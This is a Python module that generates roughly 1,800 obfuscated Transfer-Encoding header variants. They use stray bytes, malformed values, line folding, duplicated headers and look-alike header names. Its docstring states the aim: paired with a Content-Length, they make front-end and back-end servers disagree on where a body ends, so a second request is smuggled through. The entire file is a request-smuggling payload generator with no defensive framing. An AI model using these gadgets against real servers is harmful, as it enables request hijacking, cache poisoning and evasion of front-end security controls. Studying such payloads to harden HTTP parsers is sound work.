"""Spellings of Transfer-Encoding that some server takes for chunked and another for nothing.

Each gadget is one or more header lines. They stand in a request that also names a Content-Length, so
that whoever believes the gadget sees the body end early and a second request behind it.
"""

from collections.abc import Iterator

_NAME = b"Transfer-Encoding"


def _every_byte() -> Iterator[bytes]:
    for byte in (bytes([number]) for number in range(256)):
        yield _NAME + byte + b": chunked"
        yield byte + _NAME + b": chunked"
        yield _NAME + b":" + byte + b"chunked"
        yield _NAME + b": chunked" + byte
        yield b"Transfer" + byte + b"Encoding: chunked"
        yield b"X: y" + byte + _NAME + b": chunked"


def _values() -> Iterator[bytes]:
    for value in (
        b"xchunked",
        b"chunkedx",
        b"chunke",
        b"chunk",
        b"CHUNKED",
        b"cHuNkEd",
        b"identity",
        b"gzip",
        b"deflate",
        b"compress",
        b"cow",
        b"",
        b'"chunked"',
        b"'chunked'",
        b"chunked;q=1",
        b"chunked;foo=bar",
        b"chunked ",
        b"chunked,",
        b",chunked",
        b"chunked,chunked",
        b"chunked, identity",
        b"identity, chunked",
        b"gzip, chunked",
        b"chunked, gzip",
        b"chunked, cow",
        b"cow, chunked",
        b"chunked\\",
        b"chunked/1.0",
        b"\xc5\xb8chunked",
        b"chun\xc4\xb1ed",
        b"chun\xe2\x84\xaaed",
        b"chunke\xc4\x91",
        b"\xef\xbb\xbfchunked",
        b"chunked\r",
        b"%63hunked",
        b"=?utf-8?q?chunked?=",
    ):
        yield _NAME + b": " + value
        yield _NAME + b":\t" + value
        yield b"transfer-encoding:" + value


def _lines() -> Iterator[bytes]:
    for wrap in (b"\r\n ", b"\r\n\t", b"\n ", b"\r ", b" \r\n", b"\x0b", b"\x0c", b"\x85", b"\xa0"):
        yield _NAME + b":" + wrap + b"chunked"
        yield _NAME + wrap + b": chunked"
        yield b"X: y" + wrap + _NAME + b": chunked"
    for first in (b"identity", b"chunked", b"cow", b""):
        for second in (b"identity", b"chunked", b"cow", b""):
            for joint in (b"\r\n", b"\n", b"\r", b"\r\nX: y\r\n"):
                yield _NAME + b": " + first + joint + _NAME + b": " + second
                yield _NAME + b": " + first + joint + _NAME.lower() + b": " + second
    for name in (
        b"Transfer_Encoding",
        b"TRANSFER-ENCODING",
        b"Transfer.Encoding",
        b"TransferEncoding",
        b"HTTP_TRANSFER_ENCODING",
        b"Transfer--Encoding",
        b"Transfer Encoding",
        b"Transfer-Encodings",
        b"Content-Encoding",
        b"Content_Length",
        b"Content Length",
        b"Content-Length ",
        b"TE",
        b"X-Transfer-Encoding",
        b"Transfer-Encod\xc4\xb1ng",
        b"Trans\xc3\xbfer-Encoding",
    ):
        yield name + b": chunked"
        yield name + b": 0"
        yield name + b" : chunked"


def gadgets() -> list[bytes]:
    """About 1,800 of them, each once."""
    return list(dict.fromkeys([*_every_byte(), *_values(), *_lines()]))
